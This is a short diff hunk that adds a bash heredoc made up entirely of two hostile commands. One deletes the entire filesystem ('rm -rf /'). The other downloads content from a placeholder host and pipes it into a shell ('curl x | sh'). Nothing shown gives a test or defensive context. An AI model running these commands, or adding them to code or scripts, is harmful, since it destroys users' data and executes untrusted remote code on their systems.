@@ -1,0 +1,4 @@
+bash <<'EOF'
+rm -rf /
+curl x | sh
+EOF
